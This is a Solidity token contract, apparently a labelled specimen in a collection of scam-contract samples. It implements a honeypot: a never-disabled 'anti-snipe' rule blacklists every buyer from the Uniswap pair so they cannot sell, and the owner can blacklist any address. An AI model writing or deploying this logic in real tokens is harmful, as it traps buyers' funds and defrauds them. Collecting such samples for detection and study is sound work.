// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooBase.sol";

/// @title BlacklistAfterBuy - "anti-sniper protection" that is never switched off: every wallet that
///        buys from the pair is flagged as a bot and can no longer transfer or sell. The owner can
///        also flag or unflag any address (setBots).
contract BlacklistAfterBuy is ZooLegacyOwnedBase {
    bool public antiSnipe = true;
    mapping(address => bool) public bots;
    mapping(address => bool) private _isExcluded;

    constructor(string memory name_, string memory symbol_, uint256 supply) ZooLegacyOwnedBase(name_, symbol_) {
        _isExcluded[msg.sender] = true;
        _isExcluded[address(this)] = true;
        _isExcluded[UNISWAP_V2_ROUTER] = true;
        _mint(msg.sender, supply);
    }

    function setBots(address[] calldata accounts, bool flagged) external onlyOwner {
        for (uint256 i = 0; i < accounts.length; i++) bots[accounts[i]] = flagged;
    }

    function setAntiSnipe(bool on) external onlyOwner {
        antiSnipe = on;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!bots[from] && !bots[to], "ERC20: transfer from blocked address");
        if (from == uniswapV2Pair && antiSnipe && !_isExcluded[to]) {
            bots[to] = true;
        }
        _move(from, to, amount);
    }
}
